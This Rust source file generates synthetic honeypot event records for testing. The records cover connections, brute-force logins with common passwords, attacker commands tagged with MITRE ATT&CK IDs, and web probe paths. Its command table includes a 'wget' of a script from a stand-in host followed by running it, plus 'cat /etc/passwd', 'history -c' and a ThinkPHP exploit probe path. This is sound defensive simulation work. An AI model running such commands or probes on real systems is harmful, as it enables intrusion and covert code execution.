//! Events as decoys tell them, made from their number: the same number is the same event.

/// Deckies that they happen on.
const DECKIES: u64 = 500;
/// Services, some of them more often than others.
const SERVICES: [&str; 8] = ["ssh", "ssh", "ssh", "ssh", "telnet", "http", "http", "redis"];
const USERS: [&str; 8] = ["root", "root", "root", "admin", "ubuntu", "test", "oracle", "postgres"];
const WORDS: [&str; 8] = ["admin", "123456", "password", "qwerty", "toor", "raspberry", "letmein", "changeme"];
/// Passwords that are tried.
const PASSWORDS: u64 = 5_000;
const CLIENTS: [&str; 4] =
    ["SSH-2.0-libssh_0.9.6", "SSH-2.0-Go", "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10", "SSH-2.0-libssh2_1.10.0"];
const HASSH: [&str; 4] = [
    "f555226df1963d1d3c09daf865abdc9a",
    "98f63c4d9c87edbd97ed4747fa031019",
    "ae8bd7dd09970555aa4c6ed22adbbf56",
    "51cba57125523ce4b9db67714a90bf6e",
];
/// Commands, and the techniques that they show.
const COMMANDS: [(&str, &str); 10] = [
    ("uname -a", "T1082"),
    ("id", "T1033"),
    ("cat /etc/passwd", "T1087.001"),
    ("cat /proc/cpuinfo | grep name | wc -l", "T1082"),
    ("wget http://203.0.113.9/x.sh -O /tmp/x.sh", "T1105"),
    ("chmod +x /tmp/x.sh && /tmp/x.sh", "T1222.002"),
    ("crontab -l", "T1053.003"),
    ("ps aux", "T1057"),
    ("history -c", "T1070.003"),
    ("free -m", "T1082"),
];
const PATHS: [&str; 8] = [
    "/",
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/index.php?s=/index/think/app/invokefunction",
    "/admin/login",
    "/favicon.ico",
    "/cgi-bin/luci",
];
const AGENTS: [&str; 3] = ["Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "curl/8.5.0"];
/// Events of a session: it connects, tries twice to get in, does something, and leaves.
const STEPS: u64 = 5;

/// An event, as it is stored.
#[derive(Clone, Debug)]
pub struct Event {
    pub id: [u8; 16],
    /// Microseconds since 1970.
    pub at: i64,
    pub decky: String,
    pub service: &'static str,
    pub event_type: &'static str,
    pub attacker_ip: String,
    pub attacker_port: u16,
    pub session_id: String,
    pub msg: String,
    pub fields: String,
    /// What it shows, where nobody else says.
    pub techniques: &'static str,
}

/// The address of an attacker.
pub fn address(attacker: u64) -> String {
    format!("198.{}.{}.{}", 18 + attacker / 65_536, attacker / 256 % 256, attacker % 256)
}

/// The event of this number, by one of so many attackers. The last part of its session's id is `mark`.
pub fn event(number: u64, at: i64, attackers: u64, mark: u64) -> Event {
    let (session, step) = (number / STEPS, number % STEPS);
    let (of, own) = (mix(session), mix(number ^ 0x5555_5555));
    // Few of them do much of it.
    let part = of & 0xf_ffff;
    let attacker = (((part * part) >> 20) * attackers) >> 20;
    let pick = |bits: u32, most: usize| usize::try_from((of >> bits) & 0xffff).unwrap_or(0) % most;
    let service = SERVICES[(attacker as usize + pick(20, 2)) % SERVICES.len()];
    let attacker_ip = address(attacker);
    let attacker_port = 32_768 + (of >> 40) as u16 % 28_000;
    let (event_type, msg, fields, techniques) = match (service, step) {
        ("http", 1..=3) => request(own),
        (_, 0) => ("connect", format!("connection from {attacker_ip} port {attacker_port}"), "{}".to_owned(), "T1595"),
        (_, 1) => login(service, own, attacker, false),
        (_, 2) => login(service, own, attacker, own.is_multiple_of(4)),
        (_, 3) => command(own),
        (_, _) => {
            ("disconnect", "connection closed".to_owned(), format!("{{\"duration_ms\":\"{}\"}}", own % 90_000), "")
        }
    };
    Event {
        id: id(number, at),
        at,
        decky: format!("decky-{:03}", (attacker * 7 + (of >> 56) % 3) % DECKIES),
        service,
        event_type,
        attacker_ip,
        attacker_port,
        session_id: format!("{:08x}-0000-7000-8000-{mark:012x}", session as u32),
        msg,
        fields,
        techniques,
    }
}

type What = (&'static str, String, String, &'static str);

fn login(service: &str, own: u64, attacker: u64, good: bool) -> What {
    let user = USERS[own as usize % USERS.len()];
    let tried = (own >> 8) % PASSWORDS;
    let password = format!("{}{tried}", WORDS[tried as usize % WORDS.len()]);
    let client = attacker as usize % CLIENTS.len();
    let client = match service {
        "ssh" => format!(",\"client_banner\":\"{}\",\"hassh\":\"{}\"", CLIENTS[client], HASSH[client]),
        _ => String::new(),
    };
    let fields = format!("{{\"username\":\"{user}\",\"password\":\"{password}\",\"method\":\"password\"{client}}}");
    match good {
        true => ("auth_success", format!("{user} logged in"), fields, "T1078"),
        false => ("auth_fail", format!("login failed for {user}"), fields, "T1110.001"),
    }
}

fn command(own: u64) -> What {
    let (command, technique) = COMMANDS[own as usize % COMMANDS.len()];
    let fields = format!("{{\"command\":\"{command}\",\"cwd\":\"/root\",\"exit_code\":\"0\"}}");
    ("command", command.to_owned(), fields, technique)
}

fn request(own: u64) -> What {
    let (path, agent) = (PATHS[own as usize % PATHS.len()], AGENTS[(own >> 8) as usize % AGENTS.len()]);
    let fields = format!(
        "{{\"method\":\"GET\",\"path\":\"{path}\",\"user_agent\":\"{agent}\",\"host\":\"192.0.2.{}\",\"status\":\"404\"}}",
        own % 250
    );
    ("request", format!("GET {path}"), fields, "T1595.002")
}

/// A UUID of version 7 of that moment.
fn id(number: u64, at: i64) -> [u8; 16] {
    let mut id = [0; 16];
    let millis = u64::try_from(at / 1_000).unwrap_or(0).to_be_bytes();
    id[..6].copy_from_slice(&millis[2..]);
    id[6] = 0x70;
    id[8..].copy_from_slice(&(number & 0x3fff_ffff_ffff_ffff | 0x8000_0000_0000_0000).to_be_bytes());
    id
}

/// Numbers that look like chance.
pub fn mix(number: u64) -> u64 {
    let number = number.wrapping_add(0x9e37_79b9_7f4a_7c15);
    let number = (number ^ (number >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    let number = (number ^ (number >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    number ^ (number >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn events_are_as_decoys_tell_them() {
        for number in 0..2_000 {
            let event = event(number, 1_700_000_000_000_000, 500, 0xabc);
            assert!(serde_json::from_str::<serde_json::Value>(&event.fields).unwrap().is_object(), "{event:?}");
            assert_eq!(event.session_id.len(), 36);
            assert!(event.session_id.ends_with("-000000000abc") && event.attacker_port >= 1024);
            assert_eq!((event.id[6] >> 4, event.id[8] >> 6), (7, 2));
        }
        assert_eq!(event(7, 1, 500, 0).id, event(7, 1, 500, 0).id);
        assert_ne!(event(7, 1, 500, 0).id, event(8, 1, 500, 0).id);
    }
}
